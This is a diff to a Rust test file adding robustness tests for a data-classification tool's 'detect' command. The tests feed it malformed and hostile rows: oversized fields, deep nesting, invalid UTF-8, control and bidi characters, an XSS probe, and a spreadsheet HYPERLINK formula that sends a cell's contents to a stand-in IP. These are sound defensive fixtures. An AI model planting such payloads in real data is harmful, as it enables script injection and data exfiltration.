@@ -5,8 +5,9 @@
 use serde_json::Value;
 use spillcheck::model::DataClass;
 use std::collections::BTreeSet;
+use std::io::Write;
 use std::path::{Path, PathBuf};
-use std::process::{Command, Output};
+use std::process::{Command, Output, Stdio};
 
 /// Group, least recall, greatest share of ordinary rows with a false alarm; `None`: the group has no such rows.
 const FLOORS: [(&str, Option<f64>, Option<f64>); 11] = [
@@ -139,4 +140,67 @@ fn what_cannot_be_scored_is_said() {
     let output = run(&[readme]);
     assert_eq!(output.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&output.stderr).contains("are no labelled rows"));
+}
+
+/// What `detect` answers to lines of any bytes.
+fn detect(lines: &[Vec<u8>]) -> Vec<Value> {
+    let mut program = Command::new(env!("CARGO_BIN_EXE_spillcheck"))
+        .arg("detect")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut input = program.stdin.take().unwrap();
+    let bytes = lines.join(&b'\n');
+    let writer = std::thread::spawn(move || input.write_all(&bytes).unwrap());
+    let output = program.wait_with_output().unwrap();
+    writer.join().unwrap();
+    assert_eq!(output.status.code(), Some(0));
+    output
+        .stdout
+        .split(|byte| *byte == b'\n')
+        .filter(|line| !line.is_empty())
+        .map(|line| serde_json::from_slice(line).unwrap())
+        .collect()
+}
+
+#[test]
+fn every_hostile_row_has_an_answer_and_the_next_one_is_read() {
+    let field =
+        |key: &str, value: &str| serde_json::json!({"id": 1, "key": key, "value": value}).to_string().into_bytes();
+    let text = |text: &str| serde_json::json!({"id": 1, "text": text}).to_string().into_bytes();
+    let deep = format!("{{\"id\":1,\"value\":{}1{}}}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes();
+    let hostile = [
+        field(&"long_key_".repeat(120_000), "a"),
+        field("note", &"a long value, and so it goes on. ".repeat(40_000)),
+        text(&"a long text, and so it goes on. ".repeat(40_000)),
+        field(&"\u{301}".repeat(10_000), &"\u{301}".repeat(10_000)),
+        field("\u{202e}diss\u{202c}", "\u{200f}\u{2066}WiFi\u{2069}"),
+        field("a\0b", "\0\0\0"),
+        text("\0\u{1b}[2J\u{7}\u{feff}"),
+        field("ssid", "📶🏠 Wi-Fi 📶"),
+        field("nickname", "<script>alert(1)</script>"),
+        field("nickname", "=HYPERLINK(\"https://192.0.2.1/?\"&A1)"),
+        deep,
+        b"{\"id\":1,\"key\":\"\\ud800\",\"value\":\"\\udfff\"}".to_vec(),
+        b"{\"id\":1,\"key\":\"a\xff\xfe\",\"value\":\"\xc3\"}".to_vec(),
+        b"{\"id\":1,\"key\":1e999,\"path\":[],\"values\":[1e999,{},[],null,true]}".to_vec(),
+    ];
+    for row in &hostile {
+        let answers = detect(&[row.clone(), field("email", "pat@example.com")]);
+        assert_eq!(answers.len(), 2, "{}", String::from_utf8_lossy(&row[..row.len().min(60)]));
+        assert!(answers.iter().all(|answer| answer["id"] == 1), "{answers:?}");
+        assert_eq!(answers[1]["detections"][0]["class"], "contact.email");
+    }
+    let told = |row: Vec<u8>| detect(&[row])[0]["detections"][0]["class"].clone();
+    assert_eq!(told(field("ssid", "cafe@home.example")), "net.ssid");
+    assert_eq!(told(field("nickname", "<script>alert(1)</script>")), "dev.nickname");
+}
+
+#[test]
+fn lines_that_are_no_rows_are_answered_without_an_id() {
+    let lines = [b"{".to_vec(), b"\xff\xfe\0".to_vec(), b"[1]".to_vec(), b"  ".to_vec(), b"{}".to_vec()];
+    let answers = detect(&lines);
+    assert_eq!(answers.len(), 4, "a blank line is none");
+    assert!(answers.iter().all(|answer| *answer == serde_json::json!({"id": null, "detections": []})));
 }
